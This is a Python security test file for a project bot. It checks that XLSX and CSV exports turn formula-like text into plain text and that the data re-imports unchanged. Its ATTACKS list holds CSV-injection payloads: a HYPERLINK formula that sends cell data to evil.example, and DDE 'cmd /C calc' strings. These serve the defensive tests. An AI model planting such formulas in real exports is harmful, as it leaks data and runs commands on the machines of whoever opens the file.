"""Finding 3: exports that cannot attack their reader. Texts starting with =, +, -, @, tab
or CR become plain text in every XLSX and CSV pmbot writes, and still re-import equal."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest
import yaml
from sqlmodel import Session

from bot.files.cells import csv_read, csv_write
from bot.files.workspace import read_workspace_file, write_workspace_file
from domain.core.actors import actor_for_handle
from domain.core.store import make_engine, unit_of_work
from domain.workspace.export import export_workspace
from domain.workspace.importing import import_workspace
from tests.security.conftest import WORKSPACE

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted"]


@pytest.fixture
def poisoned(engine, now):  # type: ignore[no-untyped-def]
    """The firm, where a client's feedback, a task title and the client notes are formulas."""
    from domain.clients.feedback import give_feedback

    data = yaml.safe_load(WORKSPACE.read_text(encoding="utf-8"))
    data["clients"][0]["notes"] = ATTACKS[0]
    data["projects"][0]["tasks"].append({"title": ATTACKS[1], "assignee": "sam"})
    data["projects"][0]["milestones"][0]["name"] = ATTACKS[2]
    data["expenses"] = [{"project": "NW-PORTAL", "date": "2026-11-12", "amount": 10,
                         "currency": "CNY", "category": "software", "note": ATTACKS[3]}]
    with unit_of_work(engine) as session:
        import_workspace(session, data, now=now)
        nina = actor_for_handle(session, "nina")
        give_feedback(session, nina, project="NW-PORTAL", score=2, note=ATTACKS[4], now=now)
    with Session(engine) as session:
        return export_workspace(session)


def _strings_of(value):  # type: ignore[no-untyped-def]
    if isinstance(value, dict):
        for v in value.values():
            yield from _strings_of(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings_of(v)
    elif isinstance(value, str):
        yield value


def test_a_client_comment_starting_with_equals_is_text_not_a_formula_in_the_xlsx_export(
        poisoned, tmp_path):  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    path = write_workspace_file(poisoned, tmp_path / "export.xlsx", "xlsx")
    book = load_workbook(path)  # not data_only: a formula would show as data_type "f"
    kinds = {cell.value: cell.data_type for sheet in book.worksheets
             for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    for attack in ATTACKS:
        assert kinds.get(attack) == "s", attack
    assert "f" not in kinds.values()


def test_every_dangerous_csv_cell_starts_with_an_apostrophe(poisoned, tmp_path):  # type: ignore[no-untyped-def]
    folder = write_workspace_file(poisoned, tmp_path / "export", "csv")
    cells = [cell for file in Path(folder).glob("*.csv")
             for row in csv.reader(file.open(encoding="utf-8")) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
                and not c[:1].isdigit() and not _is_number(c)]
    for attack in ATTACKS:
        assert csv_write(attack) in cells


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("fmt, name", [("xlsx", "export.xlsx"), ("csv", "export")])
def test_a_poisoned_export_reimports_to_the_same_workspace(poisoned, tmp_path, now, fmt, name):  # type: ignore[no-untyped-def]
    path = write_workspace_file(poisoned, tmp_path / name, fmt)
    engine = make_engine(f"sqlite:///{tmp_path / 'again.db'}")
    from bot.migrate import upgrade

    upgrade(engine)
    with unit_of_work(engine) as session:
        import_workspace(session, read_workspace_file(path), now=now)
    with Session(engine) as session:
        again = export_workspace(session)
    assert again == poisoned
    assert set(ATTACKS) <= set(_strings_of(again))


def test_report_xlsx_writes_a_formula_like_milestone_name_as_text(poisoned, engine, now, tmp_path):  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    from bot.files.reports import write_xlsx
    from domain.core.actors import system_actor
    from domain.insight.reports import build_report

    with Session(engine) as session:
        report = build_report(session, system_actor(), kind="variance", project=None,
                              client=None, start=None, end=None, today=now.date())
    path = write_xlsx(report, tmp_path / "report.xlsx")
    cells = [c for s in load_workbook(path).worksheets for r in s.iter_rows() for c in r]
    assert not [c for c in cells if c.data_type == "f"]
    assert [c.data_type for c in cells if c.value == ATTACKS[2]] == ["s"]


def test_the_csv_escape_round_trips_every_text():
    for text in [*ATTACKS, "''=x", "'", "plain", "-", "'-", "@", "a=b"]:
        assert csv_read(csv_write(text)) == text
